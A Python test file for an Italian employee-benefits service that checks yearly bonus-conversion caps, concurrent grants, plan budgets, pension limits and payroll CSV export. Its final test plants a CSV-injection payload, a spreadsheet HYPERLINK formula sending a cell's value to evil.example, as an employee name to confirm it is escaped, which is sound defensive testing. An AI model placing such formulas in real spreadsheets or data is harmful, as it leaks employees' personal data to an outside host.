"""Grants under the year's figures, on real PostgreSQL (the benefits schema; the
wallet's side stands in as a function): performance-bonus conversions counted
together per employee and year, even when they race, and the payroll report
applying the year's pension limit, its CSV safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import date
from typing import Any

import eventlet
import pytest
from benefits import domain, reports
from benefits.models import Base, outbox
from sqlalchemy.orm import Session, sessionmaker
from wecare_common.errors import RuleViolation
from wecare_common.outbox import outbox_sessionmaker


@pytest.fixture(scope="module")
def factory(engines) -> Iterator[sessionmaker[Session]]:
    """Sessions on the benefits schema. The events written here stay unpublished
    (no relay runs); they are removed afterwards, so that no later test's
    benefits service relays a backlog of strangers' events into its broker."""
    engine = engines("benefits")
    yield outbox_sessionmaker(engine, Base.metadata)
    with engine.begin() as conn:
        conn.execute(outbox.delete().where(outbox.c.sent_at.is_(None)))


def _wallet_grant(**kwargs: Any) -> dict[str, Any]:
    return {"transaction_id": str(uuid.uuid4()),
            "total_cents": kwargs["amount_cents"] * len(kwargs["employee_ids"])}


class Company:
    def __init__(self, factory: sessionmaker[Session], fake) -> None:
        self.factory = factory
        with factory() as s:
            self.id = domain.create_company(s, {
                "name": "Officine Test", "vat_number": fake.vat_number(),
                "hr_manager": {"email": fake.email("hr"), "first_name": "Giulia",
                               "last_name": "Neri"}})["id"]
            s.commit()

    def employee(self, fake, income_band: str | None = "up_to_80k",
                 last_name: str = "Blu") -> str:
        with self.factory() as s:
            view = domain.enroll_employee(s, self.id, {
                "email": fake.email("employee"), "first_name": "Anna", "last_name": last_name,
                "fiscal_code": fake.fiscal_code(), "dependent_children": [],
                "language": "it", "group": None, "hire_date": None,
                "income_band": income_band})
            s.commit()
            return view["id"]

    def plan(self, fiscal_year: int) -> str:
        with self.factory() as s:
            view = domain.create_plan(s, self.id, {
                "name": f"Premio {fiscal_year}", "fiscal_year": fiscal_year,
                "valid_from": date(fiscal_year, 1, 1), "valid_until": date(fiscal_year, 12, 31),
                "categories": ["education"], "leftover_policy": "return_to_fund",
                "target_groups": None, "per_employee_budget_cents": None})
            s.commit()
            return view["id"]

    def convert(self, plan_id: str, employee_id: str, cents: int) -> dict[str, Any]:
        with self.factory() as s:
            result = domain.grant_credits(
                s, company_id=self.id, plan_id=plan_id, idempotency_key=uuid.uuid4().hex,
                data={"amount_cents": cents, "employee_ids": [employee_id], "all": False,
                      "source": "performance_bonus"},
                wallet_grant=_wallet_grant)
            s.commit()
            return result


def test_4500_converts_in_2026_and_the_year_s_conversions_count_together(
        factory, fake) -> None:
    company = Company(factory, fake)
    anna = company.employee(fake)
    spring, autumn = company.plan(2026), company.plan(2026)
    assert company.convert(spring, anna, 450_000)["total_cents"] == 450_000
    with pytest.raises(RuleViolation) as exc:  # another plan, the same year: one cap
        company.convert(autumn, anna, 50_001)
    assert "capped at 5.000,00 €" in str(exc.value)
    assert "room left this year: 500,00 €" in str(exc.value)
    assert exc.value.fields["employee_ids"] == [anna]
    assert company.convert(autumn, anna, 50_000)["total_cents"] == 50_000
    with pytest.raises(RuleViolation, match="room left this year: 0,00 €"):
        company.convert(spring, anna, 1)


def test_a_2025_plan_keeps_the_3000_cap_counted_apart_from_2026(factory, fake) -> None:
    company = Company(factory, fake)
    anna = company.employee(fake)
    plan_2025, plan_2026 = company.plan(2025), company.plan(2026)
    with pytest.raises(RuleViolation) as exc:
        company.convert(plan_2025, anna, 300_001)
    assert "the 2025 performance-bonus conversion is capped at 3.000,00 €" in str(exc.value)
    assert "room left this year: 3.000,00 €" in str(exc.value)
    company.convert(plan_2025, anna, 300_000)
    company.convert(plan_2026, anna, 300_001)  # 2026 has its own cap, and a higher one


def test_a_refused_conversion_leaves_nothing_counted(factory, fake) -> None:
    company = Company(factory, fake)
    anna, high = company.employee(fake), company.employee(fake, income_band="over_80k")
    plan = company.plan(2026)
    with pytest.raises(RuleViolation, match="at most 80.000,00 €"):
        company.convert(plan, high, 10_000)
    with pytest.raises(RuleViolation):
        company.convert(plan, anna, 500_001)
    company.convert(plan, anna, 500_000)  # nothing of the refusals was counted


def test_racing_first_conversions_cannot_together_cross_the_cap(factory, fake) -> None:
    """Ten conversions of 3,000 EUR at once, the employee's first of 2026: only
    one fits under the 5,000 EUR cap."""
    company = Company(factory, fake)
    anna = company.employee(fake)
    plan = company.plan(2026)

    def attempt(_: int) -> str:
        try:
            company.convert(plan, anna, 300_000)
            return "ok"
        except RuleViolation as exc:
            return str(exc)

    outcomes = list(eventlet.GreenPool(10).imap(attempt, range(10)))
    assert outcomes.count("ok") == 1, outcomes
    assert all("room left this year: 2.000,00 €" in o for o in outcomes if o != "ok")


def test_racing_first_grants_cannot_together_cross_a_plan_budget(factory, fake) -> None:
    company = Company(factory, fake)
    anna = company.employee(fake)
    with factory() as s:
        plan = domain.create_plan(s, company.id, {
            "name": "Budget", "fiscal_year": 2026, "valid_from": date(2026, 1, 1),
            "valid_until": date(2026, 12, 31), "categories": ["education"],
            "leftover_policy": "return_to_fund", "target_groups": None,
            "per_employee_budget_cents": 30_000})["id"]
        s.commit()

    def attempt(_: int) -> str:
        with factory() as s:
            try:
                domain.grant_credits(
                    s, company_id=company.id, plan_id=plan, idempotency_key=uuid.uuid4().hex,
                    data={"amount_cents": 20_000, "employee_ids": [anna], "all": False,
                          "source": "company"}, wallet_grant=_wallet_grant)
                s.commit()
                return "ok"
            except RuleViolation as exc:
                return str(exc)

    outcomes = list(eventlet.GreenPool(10).imap(attempt, range(10)))
    assert outcomes.count("ok") == 1, outcomes
    assert all("budget of 300,00 € each" in o for o in outcomes if o != "ok")


@pytest.mark.parametrize("year, exempt, taxable", [
    (2025, 516_457, 13_543),  # 5,164.57 EUR deductible up to 2025
    (2026, 530_000, 0),       # 5,300 EUR from 2026 (L. 199/2025 art. 1 c. 201)
])
def test_the_payroll_report_applies_the_year_s_pension_limit(
        factory, fake, year: int, exempt: int, taxable: int) -> None:
    company = Company(factory, fake)
    anna = company.employee(fake)
    usage = [{"employee_id": anna, "category": "pension", "amount_cents": 530_000},
             {"employee_id": anna, "category": "fringe", "amount_cents": 100_001}]
    with factory() as s:
        report = reports.fiscal_report(s, company.id, year, usage)
    rows = {r["category"]: r for r in report["rows"]}
    assert (rows["pension"]["exempt_cents"], rows["pension"]["taxable_cents"]) == (
        exempt, taxable)
    # the fringe limit, 1,000 EUR in both years: a cent over and all of it is taxable
    assert rows["fringe"]["taxable_cents"] == 100_001


def test_the_payroll_csv_writes_a_formula_typed_as_a_name_as_text(factory, fake) -> None:
    """A name a spreadsheet would run (CSV injection) is written as text; the amounts
    stay numbers (issue 23.6)."""
    hyperlink = '=HYPERLINK("https://evil.example/?cf="&B2;"Clicca")'
    company = Company(factory, fake)
    anna = company.employee(fake, last_name=hyperlink)
    usage = [{"employee_id": anna, "category": "fringe", "amount_cents": 20_000}]
    with factory() as s:
        text = reports.as_csv(reports.fiscal_report(s, company.id, 2026, usage))
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0]["last_name"] == "'" + hyperlink
    assert rows[0]["fringe_within_limit_cents"] == "20000"
    assert rows[-1]["employee_id"] == "TOTAL" and rows[-1]["used_cents"] == "20000"
